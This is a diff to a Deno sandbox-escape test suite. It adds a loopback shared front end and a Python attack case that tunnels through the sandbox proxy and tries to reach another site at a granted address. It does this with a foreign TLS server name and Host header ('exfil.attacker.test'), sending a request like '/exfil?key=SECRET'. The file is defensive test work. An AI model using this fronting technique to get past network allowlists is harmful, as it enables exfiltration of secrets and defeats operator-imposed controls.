@@ -272,4 +272,61 @@ breached = detail.includes("private service");`),
   });
 }
 
-Deno.test(escapeSuite("network", { atLeast: { sandbox: 18, noSandbox: 5 } }));
+// --- a grant names one site, not every site at its address ---------------------------------------
+/**
+ * A front end shared by many sites (a CDN, a shared host), on loopback: it routes by the TLS
+ * server name or the `Host` header, and records every connection's first bytes.
+ */
+const frontSeen: string[] = [];
+const front = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+const FRONT_PORT = front.addr.port;
+(async () => {
+  for await (const conn of front) {
+    (async () => {
+      try {
+        const buffer = new Uint8Array(8192);
+        const n = await conn.read(buffer);
+        if (n) frontSeen.push(new TextDecoder("latin1").decode(buffer.subarray(0, n)));
+        await conn.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\nfront end says hi"));
+      } catch {
+        // the client went away
+      } finally {
+        conn.close();
+      }
+    })();
+  }
+})().catch(() => {});
+globalThis.addEventListener("unload", () => front.close());
+attack({
+  name: "reach another site at a granted host's address: a foreign TLS server name, then Host",
+  language: "python",
+  needs: { network: [`localhost:${FRONT_PORT}`] },
+  allow: { privateNetwork: [`localhost:${FRONT_PORT}`] },
+  script: py(`import socket, ssl
+proxy = (os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"]).split("//", 1)[1].rstrip("/")
+host, port = proxy.rsplit(":", 1)
+def tunnel():
+    s = socket.create_connection((host, int(port)), timeout=5)
+    s.sendall(b"CONNECT localhost:${FRONT_PORT} HTTP/1.1\\r\\n\\r\\n")
+    detail_ = s.recv(200)
+    return s
+s = tunnel()
+try:
+    ssl.create_default_context().wrap_socket(s, server_hostname="exfil.attacker.test")
+except Exception as exc:
+    detail += "tls: " + repr(exc)[:60]
+s = tunnel()
+s.sendall(b"GET /exfil?key=SECRET HTTP/1.1\\r\\nHost: exfil.attacker.test\\r\\n\\r\\n")
+answer = s.recv(200)
+breached = b"front end says hi" in answer
+detail += " http: " + answer.decode(errors="replace")[:60]`),
+  hostUnchanged() {
+    assert.ok(
+      !frontSeen.some((bytes) => bytes.includes("exfil.attacker.test")),
+      `the front end was asked for another site: ${JSON.stringify(frontSeen)}`,
+    );
+    return Promise.resolve();
+  },
+});
+
+Deno.test(escapeSuite("network", { atLeast: { sandbox: 19, noSandbox: 5 } }));
